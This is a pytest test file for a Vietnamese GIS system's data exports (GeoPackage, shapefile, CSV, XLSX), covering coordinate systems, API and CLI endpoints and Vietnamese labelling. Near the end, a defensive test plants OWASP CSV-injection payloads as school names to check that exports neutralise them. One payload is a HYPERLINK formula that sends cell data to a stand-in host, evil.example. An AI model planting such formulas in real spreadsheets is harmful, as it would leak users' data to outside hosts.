"""Exports reopen with the same features, fields and CRS as PostGIS holds them."""

from __future__ import annotations

import csv
import io
import json
import time
import zipfile
from pathlib import Path
from typing import Any

import psycopg
import pyogrio
import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from gis_ioc.catalog import Catalog, load_catalog
from gis_ioc.crs import transformer
from gis_ioc.maps import exports
from gis_ioc.publish.cql import parse_filter
from gis_ioc.query.viewer import Viewer
from gis_ioc.scenarios import selectors
from gis_ioc.scenarios.engine import run_scenario
from gis_ioc.scenarios.models import load_scenarios
from gis_ioc.settings import Settings
from tests.conftest import scalar

PRIMARY = "level = 'primary'"
CONSOLE = Viewer.console("test")


def test_shapefile_names_are_short_deterministic_and_distinct() -> None:
    names = [
        "fid",
        "schools_national_standard_rate",
        "schools_national_standard_rate_target",
        "schools_national_standard_rate_status",
        "SCHOOLS_NA",
        "tên có dấu",
    ]
    short = exports.shorten_field_names(names)
    assert short == {
        "fid": "fid",
        "schools_national_standard_rate": "schools_na",
        "schools_national_standard_rate_target": "schools_01",
        "schools_national_standard_rate_status": "schools_02",
        "SCHOOLS_NA": "SCHOOLS_03",
        "tên có dấu": "t_n_c__d_u",
    }
    assert exports.shorten_field_names(names) == short
    assert len({v.lower() for v in short.values()}) == len(names) and all(len(v) <= 10 for v in short.values())


def export_layer(db: psycopg.Connection[Any], catalog: Catalog, fmt: str, crs: str, tmp: Path) -> exports.ExportResult:
    target = exports.resolve_crs(crs)
    seen: list[tuple[int, int]] = []
    source = exports.layer_source(
        db, catalog, CONSOLE, "schools", target, filter=parse_filter(PRIMARY, None), filter_text=PRIMARY
    )
    result = exports.export(source, fmt, target, tmp, lambda done, total: seen.append((done, total)))
    assert seen[0] == (0, result.count) and seen[-1] == (result.count, result.count)
    return result


def expected_primary(db: psycopg.Connection[Any]) -> dict[int, tuple[str, float, float]]:
    rows = db.execute(
        "SELECT fid, name, ST_X(geom), ST_Y(geom) FROM layers.schools WHERE level = 'primary' AND approval = 'approved'"
    ).fetchall()
    return {r[0]: (r[1], r[2], r[3]) for r in rows}


def test_geopackage_in_vn2000_reopens_with_the_same_features_and_crs(
    db: psycopg.Connection[Any], catalog: Catalog, tmp_path: Path
) -> None:
    result = export_layer(db, catalog, "gpkg", "EPSG:9209", tmp_path)
    expected = expected_primary(db)
    frame = pyogrio.read_dataframe(result.path)
    assert result.count == len(frame) == len(expected) > 0
    assert frame.crs.to_epsg() == 9209
    to_vn2000 = transformer(4326, 9209)  # pyproj with EPSG:6960 pinned, independent of PostGIS
    for row in frame.itertuples():
        name, lon, lat = expected[row.feature_id]
        assert row.name == name
        x, y = to_vn2000.transform(lon, lat)
        assert abs(row.geometry.x - x) < 0.01 and abs(row.geometry.y - y) < 0.01
    info = pyogrio.read_info(result.path)
    assert set(info["fields"]) >= {"school_code", "name", "level", "pupils", "national_standard"}


def test_zipped_shapefile_is_utf8_with_cpg_and_a_field_map(
    db: psycopg.Connection[Any], catalog: Catalog, tmp_path: Path
) -> None:
    result = export_layer(db, catalog, "shp", "EPSG:3405", tmp_path)
    with zipfile.ZipFile(result.path) as zf:
        names = set(zf.namelist())
        assert {"schools.shp", "schools.shx", "schools.dbf", "schools.prj", "schools.cpg", "fields.csv"} <= names
        assert zf.read("schools.cpg").decode().strip().upper() in ("UTF-8", "UTF8")
        mapping = list(csv.DictReader(io.StringIO(zf.read("fields.csv").decode("utf-8-sig"))))
    assert {m["field"]: m["shapefile_field"] for m in mapping} == result.field_map
    assert result.field_map["national_standard"] == "national_s" and result.field_map["commune_code"] == "commune_co"
    frame = pyogrio.read_dataframe(f"/vsizip/{result.path}/schools.shp")
    assert frame.crs.to_epsg() == 3405 and len(frame) == len(expected_primary(db))
    assert all(len(c) <= 10 for c in frame.columns)
    assert set(frame["name"]) == {v[0] for v in expected_primary(db).values()}  # Vietnamese names intact


def test_geojson_csv_and_xlsx_hold_the_same_rows(db: psycopg.Connection[Any], catalog: Catalog, tmp_path: Path) -> None:
    expected = expected_primary(db)
    gj = json.loads(export_layer(db, catalog, "geojson", "CRS84", tmp_path).path.read_text(encoding="utf-8"))
    assert {f["properties"]["feature_id"] for f in gj["features"]} == set(expected)
    first = gj["features"][0]
    assert first["geometry"]["coordinates"] == pytest.approx(list(expected[first["properties"]["feature_id"]][1:]))
    raw = export_layer(db, catalog, "csv", "CRS84", tmp_path).path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # a BOM: Excel reads the Vietnamese text right
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert {int(r["feature_id"]) for r in rows} == set(expected)
    assert all(r["wkt"].startswith("POINT") for r in rows)
    wb = load_workbook(export_layer(db, catalog, "xlsx", "EPSG:9209", tmp_path).path, read_only=True)
    sheet = list(wb["schools"].iter_rows(values_only=True))
    assert sheet[1][:3] == ("feature_id", "school_code", "commune_code") and len(sheet) == len(expected) + 2
    assert sheet[0][0].startswith("Mã đối tượng")
    meta = dict(wb["export"].iter_rows(values_only=True))
    assert meta["crs"].endswith("/9209") and meta["filter"] == PRIMARY and int(meta["features"]) == len(expected)


def test_flagged_communes_of_a_run_as_vn2000_geopackage(
    db: psycopg.Connection[Any], catalog: Catalog, settings: Settings, tmp_path: Path
) -> None:
    scenario = load_scenarios(settings.config_dir / "scenarios", catalog)["education"]
    selection = selectors.from_request(db, {"radius": {"at": [106.3131, 20.4795], "metres": 2500}}, catalog, CONSOLE)
    run = run_scenario(db, catalog, scenario, selection, "2026-Q3", viewer=CONSOLE).as_dict()
    flagged = {f["where"] for f in run["flags"]} - {"total"}
    assert flagged
    crs = exports.resolve_crs("EPSG:9209")
    result = exports.export(exports.run_source(db, run, crs, flagged_only=True), "gpkg", crs, tmp_path)
    frame = pyogrio.read_dataframe(result.path)
    assert set(frame["code"]) == flagged and frame.crs.to_epsg() == 9209
    assert bool(frame["flagged"].all())
    for row in frame.itertuples():
        ind = next(i for i in run["indicators"] if i["id"] == "schools_national_standard_rate")
        fig = ind["communes"][row.code]
        assert row.schools_national_standard_rate_status == fig["status"]
        area = scalar(
            db,
            "SELECT ST_Area(ST_Transform(geom, 989209)) FROM layers.communes WHERE code = %s AND valid_to IS NULL",
            (row.code,),
        )
        assert row.geometry.area == pytest.approx(area, rel=1e-6)


def test_http_exports_stream_files_and_name_bad_requests(client: TestClient, db: psycopg.Connection[Any]) -> None:
    r = client.get("/api/exports/layers/schools", params={"format": "gpkg", "crs": "EPSG:9209", "filter": PRIMARY})
    assert r.status_code == 200 and r.headers["content-type"] == "application/geopackage+sqlite3"
    assert int(r.headers["content-length"]) == len(r.content) and r.headers["x-feature-count"] == str(
        len(expected_primary(db))
    )
    assert 'filename="schools_9209.gpkg"' in r.headers["content-disposition"]
    for params, status, words in [
        ({"format": "pdf"}, 400, "format 'pdf'"),
        ({"crs": "EPSG:2000"}, 400, "EPSG:2000"),
        ({"filter": "pupils >"}, 400, "filter"),
        ({"filter": "nosuchfield = 1"}, 400, "nosuchfield"),
    ]:
        bad = client.get("/api/exports/layers/schools", params=params)
        assert bad.status_code == status and bad.headers["content-type"] == "application/problem+json", bad.text
        assert words in bad.json()["detail"]
    assert client.get("/api/exports/layers/police_posts").status_code == 404  # restricted
    assert client.get("/api/exports/runs/99999999").status_code == 404
    assert client.get("/api/exports/runs/abc").status_code == 422


def test_background_export_reports_progress_and_gives_the_file(client: TestClient, db: psycopg.Connection[Any]) -> None:
    started = client.post("/api/exports", json={"layer": "roads", "format": "csv", "crs": "EPSG:9209"})
    assert started.status_code == 202, started.text
    job = started.json()
    seen = []
    deadline = time.monotonic() + 60
    while job["status"] in ("queued", "running"):
        assert time.monotonic() < deadline
        time.sleep(0.1)
        job = client.get(started.headers["location"]).json()
        seen.append(job["percent"])
    assert job["status"] == "done", job
    roads = scalar(db, "SELECT count(*) FROM layers.roads WHERE approval = 'approved'")
    assert job["done"] == job["total"] == roads and job["percent"] == 100.0
    file = client.get(f"/api/exports/jobs/{job['id']}/file")
    assert file.status_code == 200 and file.content.decode("utf-8-sig").count("\n") == roads + 1
    for body, words in [
        ({"format": "csv"}, "exactly one of layer"),
        ({"layer": "roads", "run": 1}, "exactly one of layer"),
        ({"layer": "roads", "colour": "red"}, "colour"),
        ({"run": "one"}, "integer"),
        ({"layer": "roads", "format": 5}, "format: give text"),
        ({"layer": "roads", "bbox": [1, 2, 3, 4]}, "bbox: give text"),
        ({"run": 1, "flagged": "yes"}, "flagged"),
        ({"layer": 7}, "layer must be"),
    ]:
        bad = client.post("/api/exports", json=body)
        assert bad.status_code == 400 and words in bad.json()["detail"], bad.text
    assert client.get("/api/exports/jobs/nope").status_code == 404
    hidden = client.post("/api/exports", json={"layer": "police_posts"})  # restricted: as if it did not exist
    assert hidden.status_code == 404 and "no layer" in hidden.json()["detail"]
    unknown = client.post("/api/exports", json={"layer": "nope"})
    assert unknown.status_code == 404 and unknown.json()["detail"] == "no layer 'nope'"


def test_cli_export_layer_and_run(settings: Settings, loaded: Any, db: psycopg.Connection[Any], tmp_path: Path) -> None:
    from click.testing import CliRunner

    from gis_ioc.cli import main

    result = CliRunner().invoke(
        main,
        [
            "export",
            "layer",
            "schools",
            "--filter",
            PRIMARY,
            "--format",
            "shp",
            "--crs",
            "EPSG:9209",
            "-o",
            str(tmp_path),
        ],
        obj={"settings": settings},
    )
    assert result.exit_code == 0, result.output
    assert "national_s" in result.output and "national_standard" in result.output  # the renamed fields
    frame = pyogrio.read_dataframe(f"/vsizip/{tmp_path / 'schools_9209.shp.zip'}/schools.shp")
    assert len(frame) == len(expected_primary(db)) and frame.crs.to_epsg() == 9209
    catalog = load_catalog(settings.layers_dir, settings.styles_dir, settings.config_dir)
    scenario = load_scenarios(settings.config_dir / "scenarios", catalog)["health"]
    selection = selectors.communes(db, ["11953", "13225"])
    run_id = run_scenario(db, catalog, scenario, selection, "2026-Q3", viewer=CONSOLE).id
    result = CliRunner().invoke(
        main, ["export", "run", str(run_id), "--format", "xlsx", "-o", str(tmp_path)], obj={"settings": settings}
    )
    assert result.exit_code == 0, result.output
    bad = CliRunner().invoke(main, ["export", "layer", "nope", "-o", str(tmp_path)], obj={"settings": settings})
    assert bad.exit_code == 1 and "nope" in bad.output


# -- security findings: emergency runs, formula injection ------------------------------------------


def test_an_emergency_run_exports_its_communes(client: TestClient, db: psycopg.Connection[Any]) -> None:
    """An emergency run (a 500 before) exports one feature per commune with the people and households
    exposed, as the run shows them to its owner; ``flagged`` (sector runs only) is a 400 naming why."""
    made = client.post("/api/emergency/run", json={"incident": "flood", "at": [106.05, 20.65]})
    assert made.status_code == 200, made.text
    run = made.json()
    assert run["communes"]
    answer = client.get(f"/api/exports/runs/{run['id']}", params={"format": "csv"})
    assert answer.status_code == 200, answer.text
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    expected = {c["code"]: c for c in run["communes"]}
    assert {r["code"] for r in rows} == set(expected)
    for row in rows:
        commune = expected[row["code"]]
        assert row["incident"] == "flood" and row["name"] == commune["name"] and row["run_id"] == str(run["id"])
        assert row["people"] == ("" if commune["people"] is None else str(commune["people"]))
        assert row["households"] == ("" if commune["households"] is None else str(commune["households"]))
        assert row["wkt"].startswith("MULTIPOLYGON")
    assert "contacts" not in rows[0] and "mobile_phone" not in answer.text
    gpkg = client.get(f"/api/exports/runs/{run['id']}", params={"format": "gpkg", "crs": "EPSG:9209"})
    assert gpkg.status_code == 200 and gpkg.headers["x-feature-count"] == str(len(expected))
    for bad in (
        client.get(f"/api/exports/runs/{run['id']}", params={"format": "csv", "flagged": True}),
        client.post("/api/exports", json={"run": run["id"], "format": "csv", "flagged": True}),
    ):
        assert bad.status_code == 400 and "emergency run" in bad.json()["detail"], bad.text


#: Texts a spreadsheet would run as formulas (OWASP CSV injection).
FORMULAS = {
    "XSS-F1": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "XSS-F2": "+SUM(1,2)",
    "XSS-F3": "-2+3",
    "XSS-F4": "@SUM(1,2)",
    "XSS-F5": "\t=1+1",
}


@pytest.fixture
def hostile_schools(db: psycopg.Connection[Any]) -> Any:
    """Schools named with formulas, loaded into the layer as its owner would, approved; removed after."""
    for code, name in FORMULAS.items():
        db.execute(
            "INSERT INTO layers.schools (school_code, commune_code, name, level, geom, approval) "
            "VALUES (%s, '11953', %s, 'secondary', ST_SetSRID(ST_MakePoint(106.05, 20.65), 4326), 'approved')",
            (code, name),
        )
    yield FORMULAS
    db.execute("DELETE FROM layers.schools WHERE school_code = ANY(%s)", (list(FORMULAS),))


def test_spreadsheet_exports_never_hold_formulas(client: TestClient, hostile_schools: dict[str, str]) -> None:
    params = {"filter": "school_code LIKE 'XSS-%'"}
    answer = client.get("/api/exports/layers/schools", params={**params, "format": "csv"})
    assert answer.status_code == 200, answer.text
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert {r["school_code"]: r["name"] for r in rows} == {k: "'" + v for k, v in hostile_schools.items()}
    xlsx = client.get("/api/exports/layers/schools", params={**params, "format": "xlsx"})
    assert xlsx.status_code == 200, xlsx.text
    sheet = load_workbook(io.BytesIO(xlsx.content))["schools"]
    header = [c.value for c in sheet[2]]
    names = {row[1].value: row[header.index("name")] for row in sheet.iter_rows(min_row=3)}
    assert {k: c.value for k, c in names.items()} == hostile_schools  # the text, as it is
    assert {c.data_type for c in names.values()} == {"s"}  # string cells, never formulas ('f')
    with zipfile.ZipFile(io.BytesIO(xlsx.content)) as zf:
        assert not any("<f>" in zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/"))


def test_spreadsheets_resolve_units_say_co_khong_and_label_codes(
    db: psycopg.Connection[Any], catalog: Catalog, tmp_path: Path
) -> None:
    crs = exports.resolve_crs("CRS84")
    plain = exports.export(exports.layer_source(db, catalog, CONSOLE, "schools", crs), "xlsx", crs, tmp_path / "a")
    sheet = list(load_workbook(plain.path, read_only=True)["schools"].iter_rows(values_only=True))
    titles = dict(zip(sheet[1], sheet[0], strict=True))
    assert titles["pupils"] == "Số học sinh (học sinh)" and titles["capacity"] == "Quy mô thiết kế (học sinh)"
    assert titles["classes"] == "Số lớp (lớp)" and not any("{" in str(t) for t in sheet[0])
    standard = sheet[1].index("national_standard")
    assert {r[standard] for r in sheet[2:]} == {"Có", "Không"}  # never True/False
    assert "level_vi" not in sheet[1]  # labels only when asked
    expected = dict(
        db.execute("SELECT fid, level FROM layers.schools WHERE approval = 'approved'").fetchall()  # type: ignore[arg-type]
    )
    labelled = exports.layer_source(db, catalog, CONSOLE, "schools", crs, labels=True)
    names = [c.name for c in labelled.columns]
    assert names[names.index("level") + 1] == "level_vi" and names[names.index("ownership") + 1] == "ownership_vi"
    level_vi = {"preschool": "Mầm non", "primary": "Tiểu học", "lower_secondary": "Trung học cơ sở"}
    level_vi["upper_secondary"] = "Trung học phổ thông"
    for fmt in ("xlsx", "csv", "gpkg"):
        result = exports.export(labelled, fmt, crs, tmp_path / fmt)
        if fmt == "xlsx":
            rows = list(load_workbook(result.path, read_only=True)["schools"].iter_rows(values_only=True))
            head, body = rows[1], rows[2:]
            assert rows[0][head.index("level_vi")] == "Cấp học (tên)"
        elif fmt == "csv":
            table = list(csv.reader(io.StringIO(result.path.read_text(encoding="utf-8-sig"))))
            head, body = tuple(table[0]), [tuple(r) for r in table[1:]]
        else:
            frame = pyogrio.read_dataframe(result.path)
            head, body = tuple(frame.columns), [tuple(r) for r in frame.itertuples(index=False)]
        fid, level, label = head.index("feature_id"), head.index("level"), head.index("level_vi")
        assert len(body) == len(expected)
        for row in body:
            assert row[level] == expected[int(row[fid])] and row[label] == level_vi[row[level]], (fmt, row)
        standard_vi = head.index("national_standard_vi")
        assert {r[standard_vi] for r in body} == {"Có", "Không"}


def test_run_exports_label_statuses_and_name_the_gap_by_direction(
    db: psycopg.Connection[Any], catalog: Catalog, settings: Settings, tmp_path: Path
) -> None:
    scenarios = load_scenarios(settings.config_dir / "scenarios", catalog)
    run = run_scenario(
        db, catalog, scenarios["public_order"], selectors.province(db), "2026-Q3", viewer=CONSOLE
    ).as_dict()
    crs = exports.resolve_crs("CRS84")
    titles = {k: s.title.vi for k, s in scenarios.items()}
    source = exports.run_source(db, run, crs, labels=True, scenario_titles=titles)
    result = exports.export(source, "xlsx", crs, tmp_path)
    rows = list(load_workbook(result.path, read_only=True)[source.name].iter_rows(values_only=True))
    head = dict(zip(rows[1], rows[0], strict=True))
    assert "(vượt chỉ tiêu) (vụ/10.000 dân/quý)" in head["crime_incidents_per_10k_gap"]  # lower is better
    assert head["crime_incidents_per_10k"] == "Số vụ phạm pháp hình sự trên 10.000 dân trong kỳ (vụ/10.000 dân/quý)"
    body = [dict(zip(rows[1], r, strict=False)) for r in rows[2:]]  # read-only rows drop trailing blanks
    names = {i["id"]: i["name"]["vi"] for i in run["indicators"]}
    assert {r["scenario_vi"] for r in body} == {"An ninh trật tự"} and {r["period_vi"] for r in body} == {
        "Quý III/2026"
    }
    assert {r["flagged"] for r in body} <= {"Có", "Không"} and {r["method_vi"] for r in body} == {"Cả xã"}
    for r in body:
        status = r["crime_incidents_per_10k_status"]
        assert r["crime_incidents_per_10k_status_vi"] == exports.STATUS_LABELS[status]
        assert (r["flagged"] == "Có") == bool(r.get("flags"))
        if r.get("flags"):
            assert r["flags_vi"] == ", ".join(names[i] for i in r["flags"].split(", "))
    meta = dict(load_workbook(result.path, read_only=True)["export"].iter_rows(values_only=True))
    assert meta["title"] == f"An ninh trật tự, Quý III/2026 (lần phân tích {run['id']})"
    assert "(giờ Việt Nam)" in meta["generated_at"] and "T" not in meta["generated_at"].split()[0]
